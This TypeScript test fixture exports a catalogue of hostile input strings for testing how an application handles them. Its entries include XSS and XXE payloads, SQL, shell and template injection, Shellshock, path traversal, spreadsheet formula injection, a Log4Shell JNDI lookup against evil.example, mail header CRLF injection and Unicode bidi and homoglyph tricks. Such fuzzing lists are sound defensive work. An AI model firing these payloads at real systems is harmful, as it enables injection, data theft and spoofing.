/** Strings that were written to break something: a parser, a page, a mail, a database or an eye. */

const markup = [
  "<script>window.ran = 1</script>",
  "</textarea><script>window.ran = 1</script>",
  '"><img src=x onerror="window.ran = 1">',
  "'><svg/onload=window.ran=1>",
  "<img src=x onerror=alert(1)//",
  "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
  "<a href=javascript:window.ran=1>press</a>",
  "<<script>script>alert(1)<</script>/script>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<!--<img src='--><img src=x onerror=alert(1)>'>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<base href='https://evil.example/'>",
  "<form action=https://evil.example/><input name=x>",
  "]]><![CDATA[<script>alert(1)</script>]]>",
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#x3c;/script&#x3E;",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "＜script＞alert(1)＜/script＞",
  "‹img src=x onerror=alert(1)›",
  "2 < 3 > 1 and a<b>c",
  "><><><><><",
];

const code = [
  "{{constructor.constructor('window.ran = 1')()}}",
  "{{from_name}} {{{message}}} {{#each this}}x{{/each}}",
  "$\u007B7*7} #{7*7} *{7*7} @{7*7} <%= 7*7 %> {% debug %}",
  "{email} {name} {0} {} {count}",
  "$& $1 $` $' $$ $<name>",
  "%s %d %n %x %p %99999999s %$1 %%",
  "__proto__ constructor toString hasOwnProperty",
  '{"__proto__":{"ran":true},"to_email":"evil@example.org"}',
  '"},"to_email":"evil@example.org","x":{"y":"',
  '\\",\\"template_id\\":\\"other\\"',
  "[object Object] undefined null NaN true Infinity",
  "' OR '1'='1' --",
  "Robert'); DROP TABLE messages;--",
  "1; UNION ALL SELECT NULL,NULL,version() --",
  "$(touch /tmp/x) `id` ; | & && || > /dev/null",
  "() { :; }; echo broken",
  "../../../../etc/passwd ..\\..\\windows\\win.ini",
  '=HYPERLINK("https://evil.example";"press")',
  "+1+1 -1-1 @SUM(1+1) =cmd|' /C calc'!A0",
  "javascript:window.ran=1 data:text/html,x vbscript:x",
  "JaVaScRiPt:/*--></title></style>*/window.ran=1//",
  "https://evil.example/?a=1&b=2#c http://[::1]:80/ //evil.example",
  "https://user:password@evil.example:99999/%00%0a%0d",
  "*)(uid=*))(|(uid=*",
  "a{}b [] () | \\ / ^ ~ ` ' \" ; : , . ? ! @ # % & * = + - _",
  "(a+)+$ aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
  "$\u007Bjndi:ldap://evil.example/a}",
  "onfocus=alert(1) autofocus tabindex=1 x=",
  "-->  --!> */ // # ;; '''",
];

const headers = [
  "Aisha\r\nBcc: everyone@example.org",
  "Aisha\nContent-Type: text/html\n\n<b>bold</b>",
  "Aisha\rSubject: other",
  "A lorry\r\n\r\n.\r\nMAIL FROM:x",
  "A lorry%0ABcc:everyone@example.org",
  "A lorry\u0085Bcc: x@example.org",
  "A lorry\u2028Bcc: x@example.org\u2029Cc: y@example.org",
  "=?UTF-8?B?PHNjcmlwdD4=?= =?utf-8?q?=0ABcc:_x?=",
  "To: a@example.org, b@example.org; c@example.org",
  "one\ttwo\vthree\ffour\u0000five",
];

const scripts = [
  "السَّلامُ عليكُم ورحمة الله",
  "نواكشوط ١٢٣ و۴۵۶ and 789",
  "\u202Eevil\u202C \u202Agood\u202C \u2067نص\u2069",
  "unclosed \u202E override goes on and on",
  "\u2066\u2066\u2066\u2066 isolates \u2069\u2069",
  "Zalgo: Z\u0351\u036B\u0343\u032A\u0302\u036B\u033D\u034F\u0334\u0319\u0324 t\u0321\u0353 ö\u0353",
  "é e\u0301 ñ n\u0303 ạ\u0308 q\u0307\u0323 ﬁ ﷺ ﷽",
  "ß İ ı ſ K Å Ω ǅ ﬃ",
  "👩‍👩‍👧‍👦 👩🏽‍🌾 🇲🇷🇸🇳 ☝🏿 ❤️‍🔥 1️⃣",
  "🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} a flag",
  "tags \u{E0001}\u{E0041}\u{E007F} here",
  "𠜎𠜱𡃁𝒽𝑒𝓁𝓁𝑜𐀀\u{10FFFF}\u{FFFFE}",
  "noncharacters \uFFFE\uFFFF\uFDD0 here",
  "private \uE000\uF8FF\u{F0000} use",
  "variation a\uFE0F\uFE0E selectors",
  "日本語の文字 한국어 Ελληνικά עברית ไทย हिन्दी",
  "раураl and аррӏе look like others",
  "no\u00ADhy\u00ADphen \u200Czero\u200D\u200Bwidth\uFEFF",
  "half \uD83D of a pair",
  "other \uDC69 half",
  "\uDC69\uD83D the wrong way round",
  "last half \uD800",
  "object \uFFFC replacement \uFFFD here",
  "interlinear \uFFF9a\uFFFAb\uFFFB note",
  "\u3164\u115F\u1160 fillers \u2800",
];

/** Every control character, and every character that shows nothing, inside a text and around it. */
const unseen = [...codes(0x00, 0x1f), ...codes(0x7f, 0xa0), 0xad, 0x61c, 0x1680, 0x180e]
  .concat(codes(0x2000, 0x200f), codes(0x2028, 0x202f), codes(0x205f, 0x206f), [0x3000, 0xfeff])
  .map((point) => String.fromCharCode(point))
  .map((one) => `${one} ${one}around and in${one}side it ${one}`);

/** At, above and far above each limit of the fields, also once what is removed is gone. */
const lengths = [
  "",
  " ",
  "<>",
  "a",
  " a ",
  "\u200B\u00A0\u2067 \u2069",
  ...[2, 9, 10, 100, 101, 200, 201, 2000, 2001].map((count) => "a".repeat(count)),
  `${"<".repeat(300)}kept${">".repeat(300)}`,
  `${" ".repeat(3000)}kept in the middle${"\n".repeat(3000)}`,
  "👩🏽‍🌾".repeat(50),
  "é".repeat(100),
  "ﷺ".repeat(200),
  `${"\u0000".repeat(5000)}all else is gone`,
  "a\u0301".repeat(40),
  "word ".repeat(399),
];

function codes(from: number, to: number): number[] {
  return Array.from({ length: to - from + 1 }, (_, i) => from + i);
}

export const hostileStrings: readonly string[] = [
  ...markup,
  ...code,
  ...headers,
  ...scripts,
  ...unseen,
  ...lengths,
];
